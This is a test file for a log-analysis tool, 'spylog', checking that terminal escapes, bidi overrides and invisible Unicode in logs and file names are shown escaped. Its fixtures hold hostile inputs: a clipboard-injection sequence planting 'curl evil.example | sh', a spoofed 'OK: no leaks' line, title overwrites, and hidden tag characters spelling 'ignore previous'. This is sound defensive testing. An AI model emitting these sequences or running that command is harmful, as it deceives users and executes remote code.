// Nothing from a log, a baseline, a dialect file or a file name reaches a terminal raw: every
// human-facing output (the text report, check and diff text, stderr, the progress line) shows
// control, bidi, line-separating and invisible characters escaped, with and without colour.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runMain } from './helpers.js';
import { displayLines, displayText, isDisplaySafe } from '../src/text/display.js';
import { formatProgress } from '../src/cli/progress.js';

const tmp = mkdtempSync(join(tmpdir(), 'spylog-display-'));
process.on('exit', () => rmSync(tmp, { recursive: true, force: true }));

const ESC = '\x1b';
const BEL = '\x07';

/** What an attacker's program could print (the attack notes' inject generator, both shapes). */
function injectCrt(): string {
  const spoof = `${ESC}7${ESC}[23A${ESC}[1G${ESC}[2K${ESC}[1;32mOK: no leaks${ESC}[0m${ESC}8`;
  const title = `${ESC}]0;spylog: all clear${BEL}`;
  const clip = `${ESC}]52;c;${Buffer.from('curl evil.example | sh\n').toString('base64')}${BEL}`;
  const path = join(tmp, 'inject-crt.log');
  writeFileSync(
    path,
    'Detected memory leaks!\nDumping objects ->\n' +
      `c:\\src\\app.cpp${spoof}${title}${clip}(42) : {813} normal block at 0x00C08E80, 16 bytes long.\n` +
      ' Data: <                > 07 00 00 00 CD CD CD CD CD CD CD CD CD CD CD CD \nObject dump complete.\n',
  );
  return path;
}

const EVIL = [`Object \u009b31mreleased\u009b0m \u202Eexe.txt\u202C \u2066isolate\u2069`, `zero\u200Bwidth line\u2028break ${ESC}[2J`];

/** MallocSpy log whose contexts and a malformed spy line carry C1, bidi, separators and ESC; `complete`: blocks freed at exit, else never freed (undecided). */
function injectSpy(name: string, complete: boolean): string {
  const addr = (i: number) => '0x' + (0x00100000 + i * 16).toString(16).toUpperCase().padStart(8, '0');
  let text = 'CoInitialize() returns 0x00000000\nCoRegisterMallocSpy() returns 0x00000000\n';
  EVIL.forEach((c, i) => (text += `MALLOC SPY: ${addr(i)} - ${16 + i} bytes allocated\n${c}\n`));
  text += `MALLOC SPY: \u009b2J\u202E not a spy event ${ESC}]0;x${BEL}\n`;
  if (complete) {
    text += 'Called CoUninitialize()\nCoRevokeMallocSpy() returns 0x80070005\n';
    EVIL.forEach((_, i) => (text += `MALLOC SPY: ${addr(i)} - freed, ${EVIL.length - i - 1} blocks remaining\n`));
  }
  const path = join(tmp, name);
  writeFileSync(path, text);
  return path;
}

/** The output with spylog's own colour sequences taken out holds nothing unsafe. */
function assertSafe(text: string, what: string): void {
  const ours = text.replace(/\x1b\[(?:1|2|22|31|32|33|39)m/g, '');
  for (const line of ours.split('\n')) assert.ok(isDisplaySafe(line), `${what}: ${JSON.stringify(line)}`);
}

test('displayText: controls as \\xNN, bidi, separators and invisible characters as <U+XXXX>; text otherwise untouched', () => {
  assert.equal(displayText('a\x1b[2Jb\tc\r\n\x7f\u0085'), 'a\\x1B[2Jb\\x09c\\x0D\\x0A\\x7F\\x85');
  assert.equal(
    displayText('\u202Eexe.txt\u202C \u2066x\u2069 \u061C\u200E\u200F'),
    '<U+202E>exe.txt<U+202C> <U+2066>x<U+2069> <U+061C><U+200E><U+200F>',
  );
  assert.equal(displayText('a\u2028b\u2029c \u200Bd\uFEFF'), 'a<U+2028>b<U+2029>c <U+200B>d<U+FEFF>');
  assert.equal(displayText('C:\\logs\\x.log é 中文 ’…'), 'C:\\logs\\x.log é 中文 ’…');
  // The last look keeps spylog's own colours only.
  assert.equal(displayLines(`\x1b[31mred\x1b[39m ${ESC}]0;t${BEL}\nnext`, true), `\x1b[31mred\x1b[39m \\x1B]0;t\\x07\nnext`);
  assert.equal(displayLines(`\x1b[31mred\x1b[39m`, false), '\\x1B[31mred\\x1B[39m');
});

test('displayText: every format and default-ignorable character as <U+XXXX> (attack notes #203); accents, CJK and signs untouched', () => {
  // Tag characters spelling "ignore" (ASCII smuggling), then U+00AD, U+2061, the Hangul fillers and a variation selector, as in the attack's log.
  const tags = [...'ignore'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  assert.equal(
    displayText(`CoTaskMemAlloc${tags}\u00AD\u2061\u115F\u1160\u3164\uFFA0\uFE0F(64)`),
    'CoTaskMemAlloc<U+E0069><U+E0067><U+E006E><U+E006F><U+E0072><U+E0065><U+00AD><U+2061><U+115F><U+1160><U+3164><U+FFA0><U+FE0F>(64)',
  );
  const each: [string, string][] = [
    ['\u034F', '<U+034F>'],
    ['\u17B4', '<U+17B4>'],
    ['\u180B', '<U+180B>'],
    ['\u180E', '<U+180E>'],
    ['\u206A', '<U+206A>'],
    ['\uFE00', '<U+FE00>'],
    ['\uFFF0', '<U+FFF0>'],
    ['\uFFF9', '<U+FFF9>'],
    ['\u{1BCA0}', '<U+1BCA0>'],
    ['\u{1D173}', '<U+1D173>'],
    ['\u{E0001}', '<U+E0001>'],
    ['\u{E007F}', '<U+E007F>'],
    ['\u{E0100}', '<U+E0100>'],
    ['\u{E01EF}', '<U+E01EF>'],
  ];
  for (const [c, shown] of each) {
    assert.equal(displayText(`a${c}b`), `a${shown}b`, shown);
    assert.ok(!isDisplaySafe(`a${c}b`), shown);
  }
  // Combining accents (a decomposed é, Devanagari's vowel sign), CJK, Hangul and visible signs are text.
  for (const t of ['Jörg e\u0301 \u0915\u093F 中文 한글 ✅ ⚠ ❯ ’…']) {
    assert.equal(displayText(t), t);
    assert.ok(isDisplaySafe(t));
  }
});

test("text, github, markdown and HTML show the attack log's hidden characters escaped (attack notes #203)", async () => {
  const tags = [...'ignore previous'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
  const hidden = `${tags}\u00AD\u2061\u115F\u3164\uFE0F`;
  const log = join(tmp, 'invisible-tags.log');
  writeFileSync(
    log,
    'CoInitialize() returns 0x00000000\r\nCoRegisterMallocSpy() returns 0x00000000\r\nMALLOC SPY: 0x0013BBB0 - 64 bytes allocated\r\n' +
      `CoTaskMemAlloc${hidden}(64) returns 0x0013BBB0\r\nCalled CoUninitialize()\r\nCoRevokeMallocSpy() returns 0x80070005\r\n` +
      'MALLOC SPY: detected memory leaks!\r\n0x0013BBB0 - 64 bytes: 4C 45 41 4B 23 31 00 CD CD CD CD CD CD CD CD CD LEAK#1..........\r\n',
  );
  const raw = /\u00AD|\u115F|\u3164|\uFE0F|\u2061|[\u{E0000}-\u{E0FFF}]/u;
  const html = join(tmp, 'invisible-tags.html');
  const runs: [string, string[]][] = [
    ['report', [log, '--html', html]],
    ['check text', ['check', log, '--assume-complete']],
    ['check github', ['check', log, '--assume-complete', '-f', 'github']],
    ['check markdown', ['check', log, '--assume-complete', '-f', 'markdown']],
  ];
  for (const [what, args] of runs) {
    const r = await runMain(args, { env: { NO_COLOR: '1', COLUMNS: '400' } });
    assert.ok(r.status !== null && r.status <= 1, `${what}: ${r.stderr}`);
    assert.doesNotMatch(r.stdout, raw, what);
    assert.match(r.stdout, /CoTaskMemAlloc<U\+E0069><U\+E0067><U\+E006E>/, what);
  }
  const page = readFileSync(html, 'utf8');
  assert.doesNotMatch(page, raw, 'html');
  assert.match(page, /CoTaskMemAlloc&lt;U\+E0069&gt;&lt;U\+E0067&gt;/);
});

test('report, check and diff text: nothing raw from the log, piped or on a colour terminal', async () => {
  const crt = injectCrt();
  const complete = injectSpy('inject-complete.log', true);
  const undecided = injectSpy('inject-undecided.log', false);
  const runs: [string, string[]][] = [
    ['report crt', [crt]],
    ['report', [complete]],
    ['report undecided', [undecided]],
    ['check crt', ['check', crt]],
    ['check', ['check', undecided]],
    ['diff', ['diff', complete, undecided]],
    ['diff crt', ['diff', crt, complete]],
  ];
  for (const [what, args] of runs) {
    for (const tty of [false, true]) {
      const r = await runMain(tty ? ['--color', ...args] : args, { stdoutIsTTY: tty, columns: 100, env: { LANG: 'en_US.UTF-8' } });
      assert.ok(r.status !== null && r.status <= 1, `${what}: ${r.stderr}`);
      assertSafe(r.stdout, `${what}${tty ? ' (terminal)' : ''}`);
      assertSafe(r.stderr, `${what} stderr`);
    }
  }
  // The text is still there, escaped: the CRT file name, the C1 CSI, the bidi override.
  const r = await runMain([crt]);
  assert.match(r.stdout, /app\.cpp\\x1B7\\x1B\[23A/);
  assert.doesNotMatch(r.stdout, /^OK: no leaks/m);
  const s = await runMain(['check', undecided], { env: { NO_COLOR: '1', COLUMNS: '200' } });
  assert.match(s.stdout, /\\x9B31mreleased\\x9B0m <U\+202E>exe\.txt<U\+202C>/);
  const a = await runMain([complete]);
  // The anomaly quotes the line: JSON's escapes for C0 controls, ours for C1 and bidi.
  assert.match(a.stdout, /"MALLOC SPY: \\x9B2J<U\+202E> not a spy event \\u001b\]0;x\\u0007"/);
});

test('stderr: messages that quote a file show its text escaped, on one line', async () => {
  const csv = join(tmp, 'esc.csv');
  writeFileSync(csv, `context,size\nX,"${ESC}]0;pwned${BEL}${ESC}[2J12"\n`);
  const r = await runMain(['check', 'fixtures/w2k-redirected.log', '-b', csv]);
  assert.equal(r.status, 2);
  assert.equal(r.stderr.split('\n').length, 2, r.stderr);
  assert.match(r.stderr, /\\x1B\]0;pwned\\x07\\x1B\[2J12/);
  assertSafe(r.stderr, 'baseline error');
  const name = join(tmp, `odd${ESC}[2J\u202Ename.log`);
  const missing = await runMain([name]);
  assert.equal(missing.status, 2);
  assert.match(missing.stderr, /odd\\x1B\[2J<U\+202E>name\.log\n$/);
});

test('the progress line shows a file name escaped', () => {
  const line = formatProgress(`run${ESC}]0;x${BEL}.log`, 1e6, 2e6, 1000, 120);
  assert.ok(isDisplaySafe(line), line);
  assert.match(line, /run\\x1B\]0;x\\x07\.log/);
});

test("an emoji's presentation selector U+FE0F shows as drawn after an emoji, and escaped anywhere else (attack notes #217)", () => {
  assert.equal(displayText('\u2764\uFE0F cache warmed'), '\u2764\uFE0F cache warmed');
  assert.equal(displayText('\u2714\uFE0F done'), '\u2714\uFE0F done');
  assert.equal(displayText('CoTaskMemAlloc\uFE0F'), 'CoTaskMemAlloc<U+FE0F>');
  assert.equal(displayText('\u2764\uFE0F\uFE0F'), '\u2764\uFE0F<U+FE0F>');
});
